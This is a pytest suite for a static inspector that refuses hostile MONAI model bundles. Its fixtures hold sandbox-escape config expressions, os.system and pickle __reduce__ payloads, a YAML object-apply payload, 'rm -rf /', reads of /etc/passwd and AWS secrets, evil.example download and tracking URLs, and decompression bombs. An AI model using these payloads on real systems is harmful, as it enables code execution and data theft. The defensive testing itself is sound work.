"""What a stranger's bundle would execute is found by reading; nothing of it runs, whatever it tries."""

import builtins
import io
import json
import os
import pickle
import socket
import struct
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Callable
from inspect import signature
from pathlib import Path
from typing import Any

import pytest
import torch
from monai import data, engines, handlers, inferers, networks, optimizers, transforms, utils

from cxr_monai.bundle.shipped import shipped_bundles
from cxr_monai.errors import BundleError, Code, SharingError
from cxr_monai.sharing.inspection import bundle_inspection
from cxr_monai.sharing.inspection.allowlist import allowed_lists, judge_callable
from cxr_monai.sharing.inspection.bundle_inspection import inspect_bundle
from cxr_monai.sharing.inspection.remarks import Verdict, shortened
from cxr_monai.sharing.package.pack import refuse_inspected
from tests.sharing.zoo import CONFIGURATIONS


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise AssertionError("a socket was opened")

    monkeypatch.setattr(socket, "socket", refuse)


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    """A small honest bundle."""
    root = tmp_path / "bundle"
    for folder in ("configs", "docs", "models"):
        (root / folder).mkdir(parents=True)
    config = {"imports": ["$import os"], "network_def": {"_target_": "DenseNet121"}, "run": ["$@network_def.eval()"]}
    (root / "configs" / "inference.json").write_text(json.dumps(config))
    (root / "configs" / "metadata.json").write_text(json.dumps({"version": "1.0", "schema": "https://a.example/s"}))
    (root / "docs" / "README.md").write_text("A bundle.")
    torch.save({"weight": torch.zeros(3, 2), "count": torch.tensor(1)}, root / "models" / "model.pt")
    return root


def touch(canary: Path) -> str:
    """Python that betrays itself by a file."""
    return f"open({str(canary)!r}, 'w')"


# By name: what an attacker adds to the configuration, given the canary's path.
CONFIGS: dict[str, Callable[[Path], dict[str, Any]]] = {
    "import by function": lambda c: {"x": f"$__import__('os').system('touch {c}')"},
    "open": lambda c: {"x": "$" + touch(c)},
    "eval": lambda c: {"x": f"$eval({touch(c)!r})"},
    "exec": lambda c: {"x": f"$exec({touch(c)!r})"},
    "os.system": lambda c: {"imports": ["$import os"], "x": f"$os.system('touch {c}')"},
    "os.replace through a list": lambda c: {"imports": ["$import os"], "x": f"$[os][0].replace('{c}', '{c}')"},
    "attribute walk": lambda c: {"x": "$().__class__.__bases__[0].__subclasses__()"},
    "attribute walk by text": lambda c: {"x": "$'{0.__class__}'.format(1)"},
    "getattr": lambda c: {"imports": ["$import os"], "x": f"$getattr(os, 'sys' + 'tem')('touch {c}')"},
    "globals of a function": lambda c: {"x": "$(lambda: 0).__globals__"},
    "frame of a generator": lambda c: {"x": "$(i for i in [1]).gi_frame.f_builtins"},
    "setattr of another thing": lambda c: {"x": "$setattr(torch, 'load', print)"},
    "walrus": lambda c: {"x": "$(y := print)"},
    "power": lambda c: {"x": "$9**9**9"},
    "shift": lambda c: {"x": "$1 << 10000000000"},
    "large list": lambda c: {"x": "$[0] * 10000000000"},
    "shadowed name": lambda c: {"imports": ["$import os"], "x": f"$[os.rename('{c}', 'x') for os in [os]]"},
    "shadowing lambda": lambda c: {"imports": ["$import os"], "x": "$(lambda os: os.abort())(os)"},
    "reference to an import": lambda c: {"imports": ["$import os"], "x": f"$@imports#0.system('touch {c}')"},
    "reference to all imports": lambda c: {"imports": ["$import os"], "x": "$@imports[0].system('x')"},
    "plain reference to an import": lambda c: {"imports": ["$import os"], "x": "@imports#0"},
    "import subprocess": lambda c: {"imports": ["$import subprocess"]},
    "import as": lambda c: {"imports": ["$import subprocess as torch"]},
    "from import": lambda c: {"imports": ["$from os import system as run"], "x": f"$run('touch {c}')"},
    "import and more": lambda c: {"x": f"$import os; os.system('touch {c}')"},
    "import of the bundle's own code": lambda c: {"imports": ["$import scripts"]},
    "relative import": lambda c: {"imports": ["$from . import scripts"]},
    "import hidden in metadata's place": lambda c: {"deep": {"er": [{"_desc_": "$import antigravity"}]}},
    "import of MONAI's runner": lambda c: {"imports": ["$from monai.bundle import run"]},
    "torch.load": lambda c: {"x": "$torch.load('models/model.pt', weights_only=False)"},
    "torch.hub": lambda c: {"x": "$torch.hub.load('a/b', 'c')"},
    "a loader handed on": lambda c: {"x": {"_target_": "Lambda", "func": "$torch.load"}},
    "numpy.load": lambda c: {"x": "$np.load('a.npy', allow_pickle=True)"},
    "target getoutput": lambda c: {"x": {"_target_": "subprocess.getoutput", "cmd": f"touch {c}"}},
    "target eval": lambda c: {"x": {"_target_": "builtins.eval", "source": touch(c)}},
    "target bare eval": lambda c: {"x": {"_target_": "eval", "source": touch(c)}},
    "target bare open": lambda c: {"x": {"_target_": "open", "file": str(c), "mode": "w"}},
    "target bare run": lambda c: {"x": {"_target_": "run", "config_file": "a.json"}},
    "target monai.bundle.run": lambda c: {"x": {"_target_": "monai.bundle.run"}},
    "target through a module": lambda c: {"x": {"_target_": "monai.utils.module.sys.exit"}},
    "target with dunder": lambda c: {"x": {"_target_": "monai.transforms.Compose.__init__.__globals__.get"}},
    "target by reference": lambda c: {"y": "subprocess.getoutput", "x": {"_target_": "@y", "cmd": f"touch {c}"}},
    "target by expression": lambda c: {"x": {"_target_": "$print", "cmd": f"touch {c}"}},
    "target as a list": lambda c: {"x": {"_target_": ["os.system"]}},
    "target within overlay key": lambda c: {"network_def#_target_": "subprocess.getoutput"},
    "target within overlay key of today": lambda c: {"network_def::_target_": "subprocess.getoutput"},
    "debugger": lambda c: {"x": {"_target_": "DenseNet121", "_mode_": "debug"}},
    "debugger by overlay": lambda c: {"network_def#_mode_": "debug"},
    "reader by name": lambda c: {"x": {"_target_": "LoadImage", "reader": "subprocess.Popen", "args": f"touch {c}"}},
    "reader in a list": lambda c: {"x": {"_target_": "LoadImaged", "keys": "image", "reader": ["os.system"]}},
    "disabled by expression": lambda c: {"x": {"_target_": "DenseNet121", "_disabled_": "$" + touch(c)}},
    "requirement": lambda c: {"x": {"_target_": "DenseNet121", "_requires_": ["$" + touch(c)]}},
    "macro to a file": lambda c: {"x": "%/etc/hostname"},
    "macro above": lambda c: {"x": "%../../other/configs/a.json#x"},
    "macro to a missing file": lambda c: {"x": "%configs/missing.json#x"},
    "20,000 minus signs": lambda c: {"x": "$" + "-" * 20_000 + "1"},
    "20,000 minus signs with blanks": lambda c: {"x": "$" + "- " * 1_900 + "1"},
    "brackets": lambda c: {"x": "$" + "[" * 1_900 + "]" * 1_900},
    "nots": lambda c: {"x": "$" + "not " * 900 + "1"},
    "attributes without end": lambda c: {"x": "$@a" + ".eval()" * 400},
    "no Python": lambda c: {"x": "$rm -rf /"},
    "yield": lambda c: {"x": "$(yield)"},
    "format of a text with dunders": lambda c: {"x": "$f'{torch.__builtins__}'"},
    "quotes closed by a reference": lambda c: {"x": "$'@or + " + touch(c) + " + @or'"},
    "carriage return": lambda c: {"x": f"$print(1)\r{touch(c)}"},
    # names that are not yet bound where they are used
    "comprehension of open": lambda c: {"x": f"$[{touch(c)} for open in [open]]"},
    "comprehension of eval": lambda c: {"x": f"$[eval({touch(c)!r}) for eval in [eval]]"},
    "dictionary of open": lambda c: {"x": "${k: 0 for open in [open] for k in [" + touch(c) + "]}"},
    "comprehension of a hidden name": lambda c: {"x": "$[0 for _a in [1]]"},
    "condition of a comprehension": lambda c: {"x": f"$[0 for exec in [exec] if exec({touch(c)!r})]"},
    "nested comprehension": lambda c: {"x": "$[[vars for vars in [vars]]]"},
    "default of a lambda": lambda c: {"x": f"$(lambda open=open: {touch(c)})()"},
    "default of a keyword": lambda c: {"x": f"$(lambda *, eval=eval: eval({touch(c)!r}))()"},
    "default under another name": lambda c: {"x": f"$(lambda f=open: f({str(c)!r}, 'w'))()"},
    "comprehension that assigns to a module": lambda c: {"x": "$[0 for torch.device in [print]]"},
    "comprehension that assigns to a reference": lambda c: {"y": 1, "x": "$[0 for @y in ['subprocess.getoutput']]"},
    "comprehension that assigns to an item": lambda c: {"y": {}, "x": "$[0 for @y['a'] in [1]]"},
    "import under a builtin's name": lambda c: {"imports": ["$from glob import glob as open"]},
    "import under MONAI's name": lambda c: {"imports": ["$import os as np"], "x": f"$np.mean({str(c)!r})"},
    # what MONAI calls by name
    "reader by expression": lambda c: {"x": {"_target_": "LoadImage", "reader": "$'subprocess.getoutput'"}},
    "reader by reference": lambda c: {"y": "os.system", "x": {"_target_": "LoadImage", "reader": "@y"}},
    "reader by macro": lambda c: {"y": ["os.system"], "x": {"_target_": "LoadImage", "reader": "%y"}},
    "reader in a list by macro": lambda c: {"y": "os.system", "x": {"_target_": "LoadImage", "reader": ["%y"]}},
    "reader by overlay": lambda c: {"x#reader": "subprocess.getoutput"},
    "reader by merge": lambda c: {"+x#reader": ["subprocess.getoutput"]},
    "reader by its place": lambda c: {"x#reader#0": "subprocess.getoutput"},
    "reader from a target": lambda c: {
        "x": {"_target_": "LoadImage", "reader": {"_target_": "str", "object": "subprocess.getoutput"}}},
    "reader's target by overlay": lambda c: {"x#reader#_target_": "str", "x#reader#object": "subprocess.getoutput"},
    "reader in an expression": lambda c: {
        "x": f"$monai.transforms.LoadImage(reader='subprocess.getoutput', cmd='touch {c}')"},
    "reader by position": lambda c: {"x": f"$monai.transforms.LoadImage('subprocess.getoutput', cmd='touch {c}')"},
    "loader under another name": lambda c: {
        "imports": ["$import monai.transforms as mt"], "x": f"$mt.LoadImage('subprocess.getoutput', cmd='touch {c}')"},
    "loader by import": lambda c: {"imports": ["$from monai.transforms import LoadImage as f"]},
    "loader handed on": lambda c: {"imports": ["$import functools"], "x": "$functools.partial(monai.data.PILReader)"},
    "loader kept": lambda c: {"x": {"_target_": "LoadImage", "_mode_": "callable"}, "y": "$@x('os.system')"},
    "loader kept by overlay": lambda c: {"x#_mode_": "callable"},
    "loader kept by merge": lambda c: {"+x": {"_mode_": "partial"}},
    "loader in a kept place": lambda c: {
        "y": {"_target_": "torch.optim.Adam", "_mode_": "callable"}, "y#_target_": "LoadImage"},
    "loader merged into a kept place": lambda c: {
        "y": {"_target_": "torch.optim.Adam", "_mode_": "callable"}, "+y": {"_target_": "LoadImage"}},
    "reader of what is called later": lambda c: {"f": {}, "x": "$@f(reader=['os.' + 'system'])"},
    "arguments behind two stars": lambda c: {"x": "$monai.data.decollate_batch(**dict([('rea' + 'der', 1)]))"},
    "arguments behind a star": lambda c: {"x": "$print(*[1])"},
    "writer by expression": lambda c: {"x": {"_target_": "SaveImage", "writer": "$'subprocess.getoutput'"}},
    "merger": lambda c: {"x": {"_target_": "PatchInferer", "merger_cls": "subprocess.getoutput"}},
    "encoders": lambda c: {"x": {"_target_": "FlexUNetEncoderRegister"}},
    # files that are no configurations
    "macro to a text": lambda c: {"x": "%docs/evil.json#x"},
    "macro to a text by a key": lambda c: {"docs/evil.json": {"x": "%#y"}},
    "macro with two files": lambda c: {"x": "%configs/inference.json/../../docs/evil.json#x"},
    "macro to YAML": lambda c: {"x": "%docs/evil.yaml#x"},
    "macro on a second line": lambda c: {"x": "%a\ndocs/evil.json#x"},
    "macro to an import": lambda c: {"imports": ["$import os"], "x": "%imports#0"},
    "macro to an import with a blank": lambda c: {"d": {"i": "$import os"}, "x": "%d# i"},
    "macro to a macro": lambda c: {"x": "%a%#y"},
    "macro of everything": lambda c: {"x": "%", "y": "%", "z": "%"},
    # references that depend on their place
    "relative reference to an import": lambda c: {"imports": ["$import os", "@#0"]},
    "relative reference in an expression": lambda c: {
        "1 or [0][" + touch(c) + " and 0": {"y": "%x"}, "x": "$[1][@#eval('1')]"},
    "formatting that is a macro": lambda c: {"x": "$[7 %#y]"},
    "reference to a merged import": lambda c: {"+imports": ["$import os"], "x": "$@imports#5.path"},
    "MONAI's references by their name": lambda c: {"imports": ["$import os"], "x": "$__local_refs['imports::0']"},
    "MONAI's references in other letters": lambda c: {
        "imports": ["$import os"], "x": "$[__\uff4cocal_refs['imports::0']]"},
    "builtin in other letters": lambda c: {"x": f"$\uff4fpen({str(c)!r}, 'w')"},
    "our own by position": lambda c: {
        "imports": ["$from cxr_monai.components import prepare_fine_tuning"],
        "x": "$prepare_fine_tuning('evil', 'x', 'normal', True)"},
    "tracking somewhere": lambda c: {"tracking_uri": "databricks"},
    "a key within a key": lambda c: {"x": {"a#b": {"y": "%##z"}}},
    "merged target": lambda c: {"+_target_": "subprocess.getoutput", "cmd": f"touch {c}"},
    # arguments that run or load programs, whatever takes them
    "allow_pickle": lambda c: {"x": {"_target_": "NumpyReader", "allow_pickle": True}},
    "allow_pickle by expression": lambda c: {"x": {"_target_": "LoadImage", "allow_pickle": "$1 == 1"}},
    "allow_pickle in an expression": lambda c: {"x": "$monai.data.decollate_batch(allow_pickle=True)"},
    "allow_pickle by overlay": lambda c: {"x#allow_pickle": 1},
    "weights_only": lambda c: {"x": {"_target_": "PersistentDataset", "weights_only": False}},
    "pickle_module": lambda c: {"x": {"_target_": "PersistentDataset", "pickle_module": "dill"}},
    "debug": lambda c: {"x": {"_target_": "DenseNet121", "_debug_": True}},
    "trust_folder": lambda c: {"x": {"_target_": "cxr_monai.components.ChildBundle", "trust_folder": True}},
    # downloads
    "PerceptualLoss": lambda c: {"x": {"_target_": "PerceptualLoss"}},
    "CSVDataset": lambda c: {"x": {"_target_": "CSVDataset", "src": "$'http' + '://evil.example'"}},
    "Transchex": lambda c: {"x": {"_target_": "monai.networks.nets.Transchex"}},
    "pretrained": lambda c: {"x": {"_target_": "resnet50", "pretrained": True}},
    "pretrained by reference": lambda c: {"y": True, "x": {"_target_": "resnet50", "pretrained": "@y"}},
    "pretrained unless told": lambda c: {"x": {"_target_": "EfficientNetBN", "model_name": "efficientnet-b0"}},
    "pretrained unless told by overlay": lambda c: {"x#_target_": "EfficientNetBN"},
    "pretrained by position": lambda c: {"x": "$monai.networks.nets.resnet50(True)"},
    "pretrained_url": lambda c: {"x": {"_target_": "HoVerNet", "pretrained_url": "https://evil.example"}},
    # what writes and connects
    "remote tracking": lambda c: {"x": {"_target_": "MLFlowHandler", "tracking_uri": "https://evil.example"}},
    "remote tracking by expression": lambda c: {"tracking_uri": "$'https:' + '//evil.example'"},
    "artifacts": lambda c: {"x": {"_target_": "MLFlowHandler", "artifacts": ["/etc/passwd"]}},
    "absolute place": lambda c: {"x": {"_target_": "SaveImage", "output_dir": str(c)}},
    "place above": lambda c: {"x": {"_target_": "LogfileHandler", "output_dir": ".", "filename": "../../.bashrc"}},
    "text of a log": lambda c: {"x": {"_target_": "LogfileHandler", "output_dir": ".", "formatter": f"touch {c}"}},
    "folder elsewhere": lambda c: {"imports": ["$import os"], "x": f"$os.makedirs({str(c)!r})"},
    "rendezvous": lambda c: {"x": "$torch.distributed.init_process_group('gloo', init_method='tcp://10.0.0.1:1')"},
    "rendezvous by position": lambda c: {"x": "$torch.distributed.init_process_group('gloo', 'tcp://10.0.0.1:1')"},
    "rendezvous handed on": lambda c: {"x": "$list(map(torch.distributed.init_process_group, ['gloo']))"},
    "a table's eval": lambda c: {"y": 1, "x": "$@y.eval('@pd.compat.os.system(1)')"},
    "a table's eval handed on": lambda c: {"y": 1, "x": "$list(map(@y.eval, ['1']))"},
    "secrets of the environment": lambda c: {"imports": ["$import os"], "x": "$os.environ['AWS_SECRET_ACCESS_KEY']"},
    # texts that reach attributes
    "format in pieces": lambda c: {"y": 1, "x": "$('{0._' + '_init_' + '_}').format(@y)"},
    "format of an attribute": lambda c: {"y": 1, "x": "$'{0.a}'.format(@y)"},
    "format handed on": lambda c: {"y": 1, "x": "$list(map('{0.a}'.format, [@y]))"},
    "format of a text": lambda c: {"x": "$str.format('{0.a}', 1)"},
    # memory
    "product": lambda c: {"x": "$[0] * 99999999 * 99999999"},
    "wide text": lambda c: {"x": "$f'{1:99999999999}'"},
    "computed width": lambda c: {"x": "$'%*d' % (99999999, 1)"},
    "power of a name": lambda c: {"x": "$[x ** 9 for x in [9 ** 9]]"},
    "2,000 references": lambda c: {"x": "$" + "".join(f"@a{number}" for number in range(2000))},
    "400,000 references": lambda c: {"x": "$" + "".join(f"@a{number}" for number in range(400_000))},
    "a path that no system takes": lambda c: {"x": "%" + "a" * 5000 + ".json"},
    "half a letter": lambda c: {"x\ud800": "$open(1)"},
}  # fmt: skip


@pytest.mark.parametrize("name", CONFIGS)
def test_a_configuration_that_tries_to_run_something_is_refused_where_it_stands(bundle: Path, name: str) -> None:
    canary = bundle.parent / "canary"
    own = json.loads((bundle / "configs" / "inference.json").read_text())
    added = CONFIGS[name](canary)
    own.pop("imports" if "imports" in added else "", None)
    (bundle / "configs" / "inference.json").write_text(json.dumps(own | added))
    refused = inspect_bundle(bundle).refused
    assert refused
    assert "time" not in {remark.kind for remark in refused}, "the budget was spent"
    assert {remark.file for remark in refused} == {"configs/inference.json"}
    assert {remark.where.split("#")[0] for remark in refused} <= {
        shortened(key).replace("::", "#").split("#")[0] for key in added
    }
    assert all(remark.reason.endswith(".") for remark in refused)
    assert not canary.exists()


@pytest.mark.parametrize("name", ["metadata.json", "train.json", "overlay.json"])
def test_every_configuration_is_read_metadata_included(bundle: Path, name: str) -> None:
    (bundle / "configs" / name).write_text(json.dumps({"version": "1", "x": "$import antigravity"}))
    assert [(remark.file, remark.where) for remark in inspect_bundle(bundle).refused] == [(f"configs/{name}", "x")]


RAW = {
    "key twice": b'{"x": {"_target_": "DenseNet121", "_target_": "subprocess.getoutput"}}',
    "key twice in two spellings": b'{"a#b": 1, "a::b": "$open(1)"}',
    "100,000 brackets": b'{"x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "half a file": b'{"x": ',
    "a list": b'["$open(1)"]',
    "no text": b"\xff\xfe\x00",
    "a long number": b'{"x": ' + b"9" * 100_000 + b"}",
    "a string without an end": b'{"x": "' + b'\\"' * 1_000_000,
    "many strings without an end": b'"' + b'\\"' * 1_000_000 + b"\\",
    "a key of 2,000 characters": b'{"' + b"a" * 2000 + b'": 1}',
    "an id of 2,000 characters": b'{"' + b"a" * 600 + b'": {"' + b"b" * 600 + b'": 1}}',
    "300,000 items": b'{"x": [' + b"1," * 300_000 + b"1]}",
    "5 MB": b'{"x": "' + b"a" * (5 << 20) + b'"}',
}


@pytest.mark.parametrize("name", RAW)
def test_json_that_readers_may_understand_differently_or_not_at_all_is_refused(bundle: Path, name: str) -> None:
    (bundle / "configs" / "train.json").write_bytes(RAW[name])
    (remark,) = inspect_bundle(bundle).refused
    assert (remark.file, remark.kind) == ("configs/train.json", "json")


def archive(entries: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return buffer.getvalue()


class Evil:
    """Unpickled, it runs a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return os.system, (self.command,)


def saved(content: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer)
    return buffer.getvalue()


def claiming(size: tuple[int, ...], stride: tuple[int, ...] | None = None) -> bytes:
    """A file of a few bytes whose tensor claims a size, as torch.save writes views of a small storage."""
    small = torch.zeros(1)
    return saved({"weight": small.as_strided(size, stride or (0,) * len(size))})


def with_larger_storage() -> bytes:
    """A file whose pickle says that the storage has 10^9 numbers, and which holds one."""
    with zipfile.ZipFile(io.BytesIO(saved({"weight": torch.zeros(1)}))) as given:
        entries = {name: given.read(name) for name in given.namelist()}
    name = next(entry for entry in entries if entry.endswith("data.pkl"))
    # BININT1 1 becomes BININT 10^9, as the storage's count of numbers and as the tensor's size
    entries[name] = entries[name].replace(b"K\x01tq", b"J" + struct.pack("<i", 10**9) + b"tq", 1)
    return archive(entries)


def safetensors(header: bytes, length: int | None = None, data: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header) if length is None else length) + header + data


WEIGHTS: dict[str, Callable[[Path], bytes]] = {
    "an object that runs": lambda c: saved({"weight": Evil(f"touch {c}")}),
    "an old pickle": lambda c: pickle.dumps(Evil(f"touch {c}")),
    "a pickle in an archive": lambda c: archive({"model/data.pkl": pickle.dumps(Evil(f"touch {c}"), protocol=4)}),
    "a second pickle": lambda c: archive({"m/data.pkl": b"\x80\x02}.", "m/other.pkl": pickle.dumps(Evil("x"), 2)}),
    "a whole network": lambda c: saved(torch.nn.Linear(2, 2)),
    "10^9 numbers in a view": lambda c: claiming((10**9,)),
    "10^9 numbers of a storage": lambda c: with_larger_storage(),
    "a compressed archive": lambda c: archive({"m/data.pkl": b"\x80\x02}."}, zipfile.ZIP_DEFLATED),
    "a bomb": lambda c: archive({"m/data.pkl": b"\x80\x02}.", "m/data/0": b"\0" * 50_000_000}, zipfile.ZIP_DEFLATED),
    "no archive": lambda c: b"not weights",
    "nothing": lambda c: b"",
    "a bomb of a program": lambda c: archive(
        {"m/code/a.py": b" " * 50_000_000, "m/data.pkl": b"\x80\x02}."}, zipfile.ZIP_DEFLATED
    ),
    "a truncated file": lambda c: saved({"weight": torch.zeros(100)})[:300],
    "a damaged pickle": lambda c: archive({"m/data.pkl": b"\x80\x02}q"}),
    "a program that reads files": lambda c: archive(
        {"m/code/a.py": b"def forward(self): return torch.from_file('/etc/passwd')", "m/data.pkl": b"\x80\x02}."}
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", WEIGHTS)
def test_weights_that_are_more_than_tensors_or_claim_more_than_there_is_are_refused(bundle: Path, name: str) -> None:
    canary = bundle.parent / "canary"
    (bundle / "models" / "model.pt").write_bytes(WEIGHTS[name](canary))
    refused = inspect_bundle(bundle).refused
    assert refused
    assert "time" not in {remark.kind for remark in refused}, "the budget was spent"
    assert {remark.file for remark in refused} == {"models/model.pt"}
    assert not canary.exists()


SAFETENSORS = {
    "10^9 numbers": safetensors(
        b'{"w": {"dtype": "F32", "shape": [1000000000], "data_offsets": [0, 4]}}', data=bytes(4)
    ),
    "a header without end": safetensors(b"{}", length=1 << 60),
    "outside of the file": safetensors(b'{"w": {"dtype": "F32", "shape": [1], "data_offsets": [400, 404]}}'),
    "a negative place": safetensors(b'{"w": {"dtype": "F32", "shape": [1], "data_offsets": [-4, 0]}}'),
    "no header": safetensors(b"no json"),
    "an unknown type": safetensors(b'{"w": {"dtype": "PY", "shape": [1], "data_offsets": [0, 4]}}', data=b"\0" * 4),
}  # fmt: skip


@pytest.mark.parametrize("name", SAFETENSORS)
def test_safetensors_that_claim_more_than_there_is_are_refused(bundle: Path, name: str) -> None:
    (bundle / "models" / "model.safetensors").write_bytes(SAFETENSORS[name])
    assert [remark.file for remark in inspect_bundle(bundle).refused] == ["models/model.safetensors"]


def test_honest_safetensors_pass(bundle: Path) -> None:
    header = b'{"__metadata__": {"a": "b"}, "w": {"dtype": "F32", "shape": [2, 1], "data_offsets": [0, 8]}}'
    (bundle / "models" / "model.safetensors").write_bytes(safetensors(header, data=b"\0" * 8))
    assert inspect_bundle(bundle).refused == ()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("captum.py", "raise SystemExit"),
        ("torch/__init__.py", "raise SystemExit"),
        ("scripts/__init__.py", ""),
        ("configs/hidden.py", ""),
        ("native.so", "\x7fELF"),
        ("__pycache__/captum.cpython-311.pyc", ""),
        ("sitecustomize.pth", "import os"),
        ("configs/train.yaml", "x: !!python/object/apply:os.system [touch x]"),
        ("run.sh", "touch x"),
        ("configs/logging.conf", "[handlers]\nkeys=a\n[handler_a]\nclass=StreamHandler\nargs=(open('/tmp/x','w'),)\n"),
        ("configs/logging.conf", "[handler_a]\nclass=os.system\nargs=('touch x',)\n"),
        ("configs/logging.conf", "no section"),
        ("configs/logging.conf", "[a]\n" + "#" * 70_000 + "\n[handler_a]\nclass=os.system\nargs=('touch x',)\n"),
        ("configs/logging.conf", "[formatter_a]\ndefaults={'x': open('/tmp/x', 'w')}\n"),
        ("docs/picture.png", "cos\nsystem\n(S'touch x'\ntR."),
        ("docs/picture.jpg", "\x89PNG"),
        ("docs/picture.svg", "no picture"),
        ("docs/picture.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("docs/picture.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("docs/text.md", "\x80\x04\x95\0\0"),
    ],
)
def test_code_and_what_python_would_evaluate_is_refused(bundle: Path, name: str, content: str) -> None:
    (bundle / name).parent.mkdir(exist_ok=True)
    (bundle / name).write_text(content)
    refused = {remark.file for remark in inspect_bundle(bundle).refused}
    assert name in refused
    assert refused <= {name, name.split("/")[0]}


@pytest.mark.parametrize(
    ("other", "evil"),
    [
        # each half is harmless alone; MONAI merges them
        ({"imports": ["$import os"]}, {"x": "@imports#0"}),
        ({"y": {"z": "$import os"}}, {"x": "$[@y#z]"}),
        ({"imports": ["$import glob as g"]}, {"imports": ["$import os as g"]}),
        ({"y": {"_target_": "torch.optim.Adam", "_mode_": "callable"}}, {"y#_target_": "LoadImage"}),
    ],
)
def test_what_two_configurations_do_together_is_refused(bundle: Path, other: dict, evil: dict) -> None:
    (bundle / "configs" / "inference.json").write_text("{}")
    for name, alone in (("a", other), ("b", evil)):
        (bundle / "configs" / f"{name}.json").write_text(json.dumps(alone))
        assert inspect_bundle(bundle).refused == ()
        (bundle / "configs" / f"{name}.json").unlink()
    for name, alone in (("a", other), ("b", evil)):
        (bundle / "configs" / f"{name}.json").write_text(json.dumps(alone))
    assert {remark.file for remark in inspect_bundle(bundle).refused} >= {"configs/b.json"}


def test_a_macro_may_read_another_configuration(bundle: Path) -> None:
    (bundle / "configs" / "train.json").write_text('{"network_def": "%configs/inference.json#network_def"}')
    assert inspect_bundle(bundle).refused == ()


@pytest.mark.parametrize("text", ["$1 + 1", "$import os", "@network_def", "%network_def"])
def test_metadata_resolves_nothing(bundle: Path, text: str) -> None:
    (bundle / "configs" / "metadata.json").write_text(json.dumps({"version": "1", "x": [text]}))
    assert [remark.where for remark in inspect_bundle(bundle).refused] == ["x#0"]


def calls_of(action: Callable[[], object]) -> int:
    """Count the calls of functions that an action takes: its work, however busy the machine is."""
    count = 0

    def note(_frame: object, event: str, _argument: object) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    sys.setprofile(note)
    try:
        action()
    finally:
        sys.setprofile(None)
    return count


@pytest.mark.parametrize("name", ["$1", "a#b"])
def test_many_keys_take_work_and_room_by_their_number(bundle: Path, name: str) -> None:
    def write(keys: int) -> None:
        rows = {f"{name}{number}" if "#" in name else str(number): name for number in range(keys)}
        (bundle / "configs" / "train.json").write_text(json.dumps(rows))

    def judge() -> None:
        assert "time" not in {remark.kind for remark in inspect_bundle(bundle).refused}, "the budget was spent"

    write(2_000)
    few = calls_of(judge)
    write(4_000)
    assert calls_of(judge) < 2.1 * few
    tracemalloc.start()
    inspect_bundle(bundle)
    room = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert room < 4_000 * 3_400


def test_what_cannot_be_examined_is_refused(bundle: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: Any) -> None:
        raise RecursionError("too deep")

    monkeypatch.setattr(bundle_inspection, "_text", fail)
    refused = inspect_bundle(bundle).refused
    assert [(remark.file, remark.reason) for remark in refused] == [
        ("docs/README.md", "it cannot be examined (RecursionError: too deep).")
    ]


def test_the_bundles_own_words_move_no_cursor(bundle: Path) -> None:
    (bundle / "configs" / "train.json").write_text(json.dumps({"run\x1b[2J": "$open(1)", "\ud800": "$open(1)"}))
    (bundle / "docs" / "a\x1b[2J.py").write_text("")
    with pytest.raises(SharingError) as error:
        refuse_inspected(bundle, bundle)
    told = [f"{r.file}{r.where}{r.text}{r.reason}" for r in inspect_bundle(bundle).refused] + [str(error.value)]
    assert len(told) == 4
    assert all(text.isprintable() for text in told)
    assert all(len(r.where) <= 160 for r in inspect_bundle(bundle).remarks)


def test_a_plain_logging_configuration_passes(bundle: Path) -> None:
    (bundle / "configs" / "logging.conf").write_text(
        "[loggers]\nkeys=root\n[handlers]\nkeys=a\n[formatters]\nkeys=f\n[logger_root]\nlevel=INFO\nhandlers=a\n"
        "[handler_a]\nclass=StreamHandler\nlevel=INFO\nformatter=f\nargs=(sys.stdout,)\n"
        "[formatter_f]\nformat=%(message)s\n"
    )
    assert inspect_bundle(bundle).refused == ()


@pytest.mark.parametrize("target", ["/etc/hostname", "../outside", "docs/README.md"])
def test_links_are_refused_and_not_followed(bundle: Path, target: str) -> None:
    (bundle / "docs" / "link.md").symlink_to(target)
    assert [(remark.file, remark.kind) for remark in inspect_bundle(bundle).refused] == [("docs/link.md", "file")]


def test_a_pipe_is_refused_and_not_waited_for(bundle: Path) -> None:
    os.mkfifo(bundle / "configs" / "train.json")
    assert [remark.file for remark in inspect_bundle(bundle).refused] == ["configs/train.json"]


@pytest.mark.parametrize("name", CONFIGURATIONS)
def test_configurations_as_the_model_zoo_writes_them_pass(bundle: Path, name: str) -> None:
    (bundle / "configs" / "inference.json").write_text(json.dumps(CONFIGURATIONS[name]))
    assert inspect_bundle(bundle).refused == ()


def test_what_a_shell_leaves_in_builtins_changes_no_verdict(bundle: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Python's shell, doctest and gettext put ``_`` there; a program may put anything."""
    sizes = {"size": "$[0 for _ in range(2)] + [p for p in [1]]"}
    (bundle / "configs" / "inference.json").write_text(json.dumps(sizes))
    for name in ("_", "p"):
        monkeypatch.setattr(builtins, name, None, raising=False)
    assert inspect_bundle(bundle).refused == ()


@pytest.mark.parametrize("name", shipped_bundles())
def test_our_own_bundles_pass(name: str) -> None:
    found = inspect_bundle(shipped_bundles()[name])
    assert found.refused == ()
    assert any(remark.kind == "callable" and remark.text == "DenseNet121" for remark in found.remarks)


def test_weights_of_networks_in_training_pass(bundle: Path) -> None:
    network = torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2))
    torch.save(network.state_dict(), bundle / "models" / "model.pt")  # with the attributes that torch adds
